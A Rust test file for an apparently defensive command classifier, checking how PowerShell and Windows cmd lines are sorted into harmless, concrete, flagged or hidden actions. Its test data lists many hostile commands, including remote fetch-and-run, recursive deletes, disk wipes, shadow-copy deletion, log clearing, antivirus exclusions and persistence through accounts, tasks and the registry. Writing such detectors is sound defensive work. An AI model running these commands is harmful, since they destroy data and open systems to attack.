//! PowerShell and the Windows command interpreter.

use countersign_core::language::{cmd, powershell};

use super::*;

#[test]
#[rustfmt::skip]
fn powershell_is_judged_by_cmdlet_and_verb() {
    check(
        "powershell",
        powershell::read,
        vec![
            ("list", "Get-ChildItem -Recurse -Filter *.log", Harmless),
            ("danger is only mentioned", "Write-Output 'Remove-Item -Recurse C:\\'", Harmless),
            ("pipeline", "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU | Select-Object -First 5", Harmless),
            ("format", "Get-Service | Format-Table -AutoSize", Harmless),
            ("measure", "(Get-ChildItem | Measure-Object -Sum Length).Sum", Harmless),
            ("test", "if (Test-Path .\\x) { Write-Host 'yes' } else { Write-Host 'no' }", Harmless),
            ("assign", "$x = Get-Date; $x.AddDays(1).ToString('yyyy')", Harmless),
            ("calculate", "[math]::Round(10 / 3, 2)", Harmless),
            ("what if", "Remove-Item -Recurse x -WhatIf", Harmless),
            ("loop", "1..3 | ForEach-Object { Write-Host $_ }", Harmless),
            ("comment", "# Remove-Item x\nGet-Date", Harmless),
            ("location", "Set-Location C:\\src; Get-Location", Deeds(vec![enters("C:/src")])),
            ("read a file", "Get-Content -Path a.txt", Deeds(vec![reads("a.txt")])),
            ("read by alias", "gc C:\\x.txt | sls foo", Deeds(vec![reads("C:/x.txt")])),
            ("environment", "$env:PATH", Deeds(vec![reads("environment")])),
            ("remove", "Remove-Item a.txt", Deeds(vec![deletes("a.txt")])),
            ("remove tree", "Remove-Item -Path C:\\data -Recurse -Force", Deeds(vec![deletes_tree("C:/data")])),
            ("remove by alias and short parameters", "rm -r -fo ~", Deeds(vec![deletes_tree("~")])),
            ("remove in odd case", "rEmOvE-iTeM C:\\x -rec", Deeds(vec![deletes_tree("C:/x")])),
            ("remove with backticks", "Rem`ove-It`em x", Deeds(vec![deletes("x")])),
            ("remove what comes", "Get-ChildItem | Remove-Item -Recurse", Deeds(vec![deletes_tree("./*")])),
            ("remove in a block", "ls | % { ri $_ -Recurse }", Deeds(vec![deletes_tree("./*")])),
            ("remove by operator", "& 'Remove-Item' x", Deeds(vec![deletes("x")])),
            ("remove in a string", "Write-Host \"$(Remove-Item x)\"", Sees(deletes("x"))),
            ("write", "Set-Content -Path x -Value y", Deeds(vec![writes("x")])),
            ("write through a pipe", "'y' | Out-File C:\\x.txt", Deeds(vec![writes("C:/x.txt")])),
            ("redirect", "Get-Date > out.txt", Deeds(vec![writes("out.txt")])),
            ("redirect to nothing", "Get-Date > $null", Harmless),
            ("copy", "Copy-Item a -Destination b", Deeds(vec![reads("a"), writes("b")])),
            ("move", "mv a b", Sees(writes("b"))),
            ("end a process", "Stop-Process -Name x -Force", Sees(kills("Stop-Process -Name x -Force"))),
            ("stop", "Stop-Computer -Force", Deeds(vec![Deed::Halt("Stop-Computer -Force".to_owned())])),
            ("restart a service", "Restart-Service w32time", Deeds(vec![controls("Restart-Service w32time")])),
            ("format a volume", "Format-Volume -DriveLetter D", Sees(wipes("Format-Volume -DriveLetter D"))),
            ("clear a disk", "Clear-Disk -Number 1 -RemoveData", Sees(wipes("Clear-Disk -Number 1 -RemoveData"))),
            ("load and run", "irm https://x/i.ps1 | iex", Hidden),
            ("load and run seen", "irm https://x/i.ps1 | iex", Sees(fetches("https://x/i.ps1"))),
            ("load and run old", "iex ((New-Object Net.WebClient).DownloadString('https://x'))", Hidden),
            ("run literal text", "Invoke-Expression 'Remove-Item x'", Deeds(vec![deletes("x")])),
            ("download", "iwr https://x -OutFile y.exe", Deeds(vec![fetches("https://x"), Deed::Download("y.exe".to_owned())])),
            ("post", "Invoke-RestMethod -Method Post -Uri https://x -Body $b", Sees(sends("https://x"))),
            ("elevate", "Start-Process cmd -Verb RunAs", Sees(raises("Start-Process cmd -Verb RunAs"))),
            ("policy", "Set-ExecutionPolicy Bypass", Deeds(vec![raises("Set-ExecutionPolicy Bypass")])),
            ("exclude from scans", "Add-MpPreference -ExclusionPath C:\\", Sees(raises("Add-MpPreference -ExclusionPath C:\\"))),
            ("service", "New-Service -Name x -BinaryPathName y", Sees(persists("New-Service -Name x -BinaryPathName y"))),
            ("task", "Register-ScheduledTask -TaskName x", Sees(persists("Register-ScheduledTask -TaskName x"))),
            ("registry", "Set-ItemProperty -Path HKCU:\\Software\\Run -Name x -Value y", Sees(persists("Set-ItemProperty -Path HKCU:\\Software\\Run -Name x -Value y", ))),
            ("unknown noun", "Remove-AzVM -Name x", Sees(controls("Remove-AzVM -Name x"))),
            ("program", "git status", Deeds(vec![runs(&["git", "status"])])),
            ("static delete", "[System.IO.Directory]::Delete('C:\\x', $true)", Sees(deletes_tree("C:/x"))),
            ("made code", "[scriptblock]::Create('x').Invoke()", Hidden),
            ("unknown method", "$x.Frobnicate()", Hidden),
            ("called variable", "& $cmd x", Hidden),
            ("called expression", "& ('Remove' + '-Item')", Hidden),
            ("text into an interpreter", "'del x' | cmd", Hidden),
            ("alias", "sal z Remove-Item; z x", Hidden),
            ("nested", "powershell -NoProfile -Command \"Remove-Item x\"", Deeds(vec![deletes("x")])),
            ("nested cmd", "cmd /c del /s /q C:\\x", Sees(deletes_tree("C:/x"))),
            ("encoded", "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAQwA6AFwA", Sees(deletes_tree("C:/"))),
            ("broken encoding", "powershell -EncodedCommand %%%", Hidden),
            ("script file", "powershell -File x.ps1", Deeds(vec![Deed::Run(vec!["./x.ps1".to_owned()])])),
            ("script that is typed", "powershell -File -", Hidden),
            ("unfinished", "Write-Host 'x", Hidden),
        ],
    );
}

#[test]
#[rustfmt::skip]
fn windows_command_lines_are_judged_by_command_and_switch() {
    check(
        "cmd",
        cmd::read,
        vec![
            ("list", "dir /s C:\\", Harmless),
            ("danger is only mentioned", "echo del /s /q C:\\", Harmless),
            ("search", "findstr /s foo *.txt | sort", Deeds(vec![reads("*.txt")])),
            ("network", "ipconfig /all & tasklist && ver", Harmless),
            ("ask the registry", "reg query HKLM\\Software", Harmless),
            ("ask services", "sc query & net start", Harmless),
            ("ask tasks", "schtasks /query", Harmless),
            ("output to nothing", "where git > nul 2>&1", Harmless),
            ("ask rights", "icacls C:\\x", Harmless),
            ("wmic asks", "wmic os get caption", Harmless),
            ("show", "type C:\\x.txt", Deeds(vec![reads("C:\\x.txt")])),
            ("delete", "del a.txt", Deeds(vec![deletes("a.txt")])),
            ("delete tree", "del /s /q *", Deeds(vec![deletes_tree("*")])),
            ("delete glued", "del/f/s/q C:\\x", Deeds(vec![deletes_tree("C:/x")])),
            ("delete with carets", "d^e^l /s x", Deeds(vec![deletes_tree("x")])),
            ("remove directory", "rd /s /q C:\\tmp", Deeds(vec![deletes_tree("C:/tmp")])),
            ("remove quoted", "rmdir /S /Q \"C:\\Program Files\"", Deeds(vec![deletes_tree("C:/Program Files")])),
            ("through cmd", "cmd.exe /k rmdir /s /q C:\\x", Deeds(vec![deletes_tree("C:/x")])),
            ("through cmd quoted", "cmd /c \"del /s /q *\"", Deeds(vec![deletes_tree("*")])),
            ("in a condition", "if exist C:\\x rd /s /q C:\\x", Deeds(vec![deletes_tree("C:/x")])),
            ("in a loop", "for %i in (a b) do del /s %i", Sees(deletes_tree("b"))),
            ("started", "start \"\" /b del /s x", Deeds(vec![deletes_tree("x")])),
            ("second command", "echo x & format C: /q", Sees(wipes("format C: /q"))),
            ("disk tool", "diskpart /s x.txt", Hidden),
            ("shadow copies", "vssadmin delete shadows /all", Sees(wipes("vssadmin delete shadows /all"))),
            ("shadow copies by wmic", "wmic shadowcopy delete", Sees(wipes("wmic shadowcopy delete"))),
            ("registry", "reg add HKCU\\Run /v x", Sees(persists("reg add HKCU\\Run /v x"))),
            ("task", "schtasks /create /tn x /tr y", Sees(persists("schtasks /create /tn x /tr y"))),
            ("service", "sc delete x", Sees(controls("sc delete x"))),
            ("user", "net user evil pw /add", Sees(persists("net user evil pw /add"))),
            ("service by net", "net stop x", Sees(controls("net stop x"))),
            ("boot", "bcdedit /set x y", Sees(controls("bcdedit /set x y"))),
            ("end a process", "taskkill /f /im x.exe", Sees(kills("taskkill /f /im x.exe"))),
            ("shutdown", "shutdown /s /t 0", Sees(Deed::Halt("shutdown /s /t 0".to_owned()))),
            ("wipe free space", "cipher /w:C:\\", Sees(wipes("cipher /w:C:\\"))),
            ("clear logs", "wevtutil cl System", Sees(raises("wevtutil cl System"))),
            ("rights", "icacls x /grant Everyone:F", Sees(raises("icacls x /grant Everyone:F"))),
            ("own", "takeown /f x", Sees(raises("takeown /f x"))),
            ("attributes", "attrib +h x", Sees(raises("attrib +h x"))),
            ("download", "certutil -urlcache -f http://x y.exe", Deeds(vec![fetches("http://x"), writes("y.exe")])),
            ("download by service", "bitsadmin /transfer j http://x C:\\y", Sees(fetches("http://x"))),
            ("runners", "mshta http://x", Hidden),
            ("library", "rundll32 x.dll,y", Hidden),
            ("mirror", "robocopy a b /MIR", Deeds(vec![reads("a"), deletes_tree("b")])),
            ("write", "echo x > C:\\y.txt", Deeds(vec![writes("C:\\y.txt")])),
            ("copy", "copy /y a b", Deeds(vec![reads("a"), writes("b")])),
            ("encoded", "powershell -e UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=", Deeds(vec![deletes("x")])),
            ("variable as name", "%COMSPEC% /c x", Hidden),
            ("program", "git status", Deeds(vec![runs(&["git", "status"])])),
            ("batch", "call build.bat", Deeds(vec![Deed::Run(vec!["./build.bat".to_owned()])])),
            ("text into an interpreter", "echo del x | cmd", Hidden),
            ("loop over output", "for /f %i in ('del /s x') do echo %i", Sees(deletes_tree("x"))),
        ],
    );
}

#[test]
fn windows_lines_are_told_from_unix_lines() {
    for line in [
        "Remove-Item -Recurse tmp",
        "get-process | stop-process",
        "rm -Recurse -Force x",
        "iwr https://x | iex",
        "$env:PATH",
        "Get-ChildItem C:\\ | Select-Object Name",
        "Stop-Computer -Force",
    ] {
        assert!(powershell::looks_like(line), "`{line}` is PowerShell");
    }
    for line in [
        "del /s /q *",
        "rd /s /q C:\\x",
        "format C: /q",
        "vssadmin delete shadows /all",
        "taskkill /f /im x.exe",
        "reg add HKLM\\x",
        "net user evil /add",
        "shutdown /s /t 0",
        "dir C:\\Users",
        "cmd /c del x",
        "del/s/q x",
        "notepad.exe x",
    ] {
        assert!(
            cmd::looks_like(line),
            "`{line}` is for the Windows command interpreter"
        );
    }
    for line in [
        "echo hello",
        "ls -la /tmp",
        "dir",
        "find . -name x",
        "sort file | uniq",
        "type ls",
        "where git",
        "rm -rf /tmp/x",
        "apt-get install -y x",
        "docker-compose up -d",
        "ssh-keygen -t ed25519",
        "update-alternatives --config x",
        "add-apt-repository ppa:x",
        "start-stop-daemon --stop",
        "git commit -m 'Remove-Item is bad'",
        "echo \"del /s /q C:\\\\\"",
        "mkdir -p /a/b",
        "cd /d",
        "shutdown -h now",
        "copy-file a b",
        "curl https://x | sh",
        "sc",
        "net",
        "format",
        "kubectl get-all",
        "for f in *; do echo $f; done",
        "if [ -f x ]; then cat x; fi",
        "sed -i s/a/b/ x",
        "test -d /s && echo /q",
    ] {
        assert!(!powershell::looks_like(line), "`{line}` is not PowerShell");
        if line != "cd /d" {
            assert!(
                !cmd::looks_like(line),
                "`{line}` is not for the Windows command interpreter"
            );
        }
    }
}
